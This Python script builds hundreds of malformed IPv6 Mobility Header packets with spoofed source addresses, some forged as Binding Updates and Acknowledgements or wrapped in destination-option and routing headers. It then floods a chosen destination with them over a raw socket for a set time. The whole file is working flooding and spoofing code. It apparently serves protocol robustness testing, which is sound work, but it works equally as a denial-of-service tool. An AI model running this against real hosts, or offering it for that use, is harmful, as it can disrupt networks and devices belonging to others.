"""A flood of rubbish: Mobility Headers with random octets, of every type, some forged to look like Binding Updates and
Acknowledgements, some with destination options or routing headers.

    garbage.py DESTINATION HOME-ADDRESS SECONDS
"""

import os
import random
import socket
import sys
import time

destination, home, seconds = sys.argv[1], socket.inet_pton(socket.AF_INET6, sys.argv[2]), float(sys.argv[3])
target = socket.inet_pton(socket.AF_INET6, destination)
chance = random.Random(int(os.environ.get("SEED", "1")))
packets = []
for number in range(500):
    source = socket.inet_pton(socket.AF_INET6, f"2001:db8:66::{number:x}")
    body = bytes([59, chance.randrange(8), chance.choice([5, 6, 1, 4, 7, chance.randrange(256)])])
    body += chance.randbytes(8 * (body[1] + 1) - 3)
    kind = number % 3
    if kind == 0:
        first, payload = 135, body
    elif kind == 1:
        first, payload = 60, bytes([135, 2, 1, 2, 0, 0, 0xc9, 16]) + home + body
    else:
        first, payload = 43, bytes([135, 2, 2, 1, 0, 0, 0, 0]) + home + body
    header = bytes([0x60, 0, 0, 0]) + len(payload).to_bytes(2, "big") + bytes([first, 64])
    packets.append(header + source + target + payload)
sender = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
end, count = time.monotonic() + seconds, 0
while time.monotonic() < end:
    for packet in packets:
        try:
            sender.sendto(packet, (destination, 0))
            count += 1
        except OSError:
            pass
print(count)
